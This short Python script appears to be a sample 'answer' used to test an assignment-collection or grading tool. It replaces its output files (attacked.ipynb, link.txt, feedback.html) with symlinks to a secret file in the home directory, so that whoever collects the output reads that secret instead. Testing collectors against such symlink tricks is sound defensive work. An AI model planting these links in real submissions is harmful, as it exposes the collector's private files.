# The answer leaves links in its folder, for whoever collects what it wrote.
import os

for name in ("attacked.ipynb", "link.txt", "feedback.html"):
    try:
        os.unlink(name)
    except OSError:
        pass
    os.symlink("<home>/secret.txt", name)
